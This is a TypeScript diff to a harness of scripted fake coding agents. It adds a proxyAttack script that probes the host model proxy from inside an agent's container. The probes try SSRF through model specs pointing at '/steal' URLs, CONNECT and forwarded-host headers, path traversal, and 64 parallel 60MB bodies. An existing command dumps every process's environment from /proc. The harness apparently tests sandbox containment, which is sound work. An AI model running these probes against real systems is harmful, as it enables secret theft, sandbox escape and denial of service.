@@ -19,6 +19,66 @@ type Action =
 export const ENV_PROBE = 'env | sort; tr "\\0" "\\n" < /proc/1/environ; cat /proc/*/environ 2>/dev/null | tr "\\0" "\\n" | sort -u | head -200';
 export const USAGE = { input: 1500, output: 90 };
 
+/**
+ * What an agent inside its container could send the model proxy (through the relay on
+ * 127.0.0.1:<relayPort>) to make the host connect elsewhere: each `targets` entry (host:port) as a
+ * model spec in the body, an absolute-form or CONNECT target, a Host header; paths outside the API;
+ * bodies over the limit, announced or streamed, and many at once. Prints `RESULT <probe> <status>`.
+ */
+export function proxyAttack(relayPort: number, targets: string[]): string {
+  const script = String.raw`
+const net = require("net");
+const targets = ${JSON.stringify(targets)};
+const body = (model) => JSON.stringify({ model, max_tokens: 10, stream: true, messages: [{ role: "user", content: "hi" }] });
+const head = (line, length, extra = "") => line + " HTTP/1.1\r\nhost: 127.0.0.1\r\ncontent-type: application/json\r\nanthropic-version: 2023-06-01\r\n" + extra + (length === undefined ? "" : "content-length: " + length + "\r\n") + "\r\n";
+function send(first, rest) {
+  return new Promise((resolve) => {
+    const socket = net.connect(${relayPort}, "127.0.0.1");
+    let got = "";
+    let done = false;
+    const finish = (why) => {
+      if (done) return;
+      done = true;
+      socket.destroy();
+      resolve((/^HTTP\/1\.1 (\d+)/.exec(got) || [])[1] || why);
+    };
+    socket.on("data", (d) => { got += d; if (got.includes("\r\n\r\n")) finish("headers"); });
+    socket.on("error", (e) => finish("error-" + e.code));
+    socket.on("close", () => finish("closed"));
+    socket.write(first);
+    if (rest) rest(socket, () => done);
+  });
+}
+const post = (path, model, extra) => { const b = body(model); return send(head("POST " + path, Buffer.byteLength(b), extra) + b); };
+async function main() {
+  const report = (name, status) => console.log("RESULT " + name + " " + status);
+  for (const t of targets) {
+    report("model-spec " + t, await post("/v1/messages", "x@http://" + t + "/steal?"));
+    report("provider-spec " + t, await post("/v1/messages", "anthropic:claude-sonnet-4-5@http://" + t));
+    report("absolute-form " + t, await post("http://" + t + "/v1/messages", "claude-sonnet-4-5"));
+    report("connect " + t, await send("CONNECT " + t + " HTTP/1.1\r\nhost: " + t + "\r\n\r\n"));
+    report("host-header " + t, await post("/v1/messages", "claude-sonnet-4-5", "x-forwarded-host: " + t + "\r\nforwarded: host=" + t + "\r\n"));
+  }
+  for (const path of ["/v1/messages/../../steal", "/v1/messages/..%2f..%2fsteal", "/../v1/messages", "/v1/models", "/v1/messages?to=@" + targets[0]]) {
+    report("path " + path, await post(path, "claude-sonnet-4-5"));
+  }
+  const chunk = Buffer.alloc(1024 * 1024, 97);
+  report("announced-60MB", await send(head("POST /v1/messages", 60 * 1024 * 1024) + "{"));
+  report("streamed-40MB", await send(head("POST /v1/messages", undefined, "transfer-encoding: chunked\r\n"), async (socket, done) => {
+    for (let i = 0; i < 40 && !done(); i++) {
+      if (!socket.write(chunk.length.toString(16) + "\r\n")) await new Promise((r) => socket.once("drain", r));
+      if (!socket.write(chunk)) await new Promise((r) => socket.once("drain", r));
+      socket.write("\r\n");
+    }
+  }));
+  const many = await Promise.all(Array.from({ length: 64 }, () => send(head("POST /v1/messages", 60 * 1024 * 1024) + "{", (socket) => socket.write(chunk))));
+  report("64x60MB", [...new Set(many)].join(","));
+}
+main();
+`;
+  return `node -e '${script.replace(/'/g, "'\\''")}'`;
+}
+
 function textOf(content: unknown): string {
   if (typeof content === 'string') return content;
   if (!Array.isArray(content)) return '';
@@ -50,7 +110,7 @@ export function conversationOf(request: StreamRequest): { prompt: string; transc
   };
 }
 
-function script(pool: Pool, prompt: string): Action[] {
+function script(pool: Pool, prompt: string, probe: string): Action[] {
   const agentId = /You are (agent\d+)/.exec(prompt)?.[1] ?? 'agent1';
   const features = pool.features.filter((f) => prompt.includes(f.description.trim()));
   const patch = readFileSync(features.length === 1 ? features[0]!.patchPath : pool.combinedPatchPath!, 'utf8');
@@ -59,7 +119,7 @@ function script(pool: Pool, prompt: string): Action[] {
   const title = features.map((f) => /# Title: (.*)/.exec(f.description)?.[1] ?? `feature ${f.id}`).join(' + ');
   return [
     ...(talk ? [{ kind: 'send', to: partner, message: `${agentId} here: I will implement "${title}" in src/.` } as const] : []),
-    { kind: 'shell', command: ENV_PROBE },
+    { kind: 'shell', command: probe },
     { kind: 'write', path: '/tmp/work.patch', content: patch },
     { kind: 'shell', command: 'git apply /tmp/work.patch && rm /tmp/work.patch && git status --short' },
     ...(talk ? [{ kind: 'read' } as const, { kind: 'send', to: partner, message: `${agentId} status: "${title}" is implemented.` } as const] : []),
@@ -117,12 +177,12 @@ function codexTurn(action: Action, tools: { name: string; tools?: { name: string
   }
 }
 
-/** Handlers for the two fakes: each request gets the agent's next scripted action. */
-export function scriptedCliAgents(pool: Pool, log?: (request: StreamRequest) => void) {
+/** Handlers for the two fakes: each request gets the agent's next scripted action. `probe`: the first command the agent runs. */
+export function scriptedCliAgents(pool: Pool, log?: (request: StreamRequest) => void, probe = ENV_PROBE) {
   const next = (request: StreamRequest): Action => {
     log?.(request);
     const { prompt, turns } = conversationOf(request);
-    const actions = script(pool, prompt);
+    const actions = script(pool, prompt, probe);
     return actions[Math.min(turns, actions.length - 1)]!;
   };
   return {
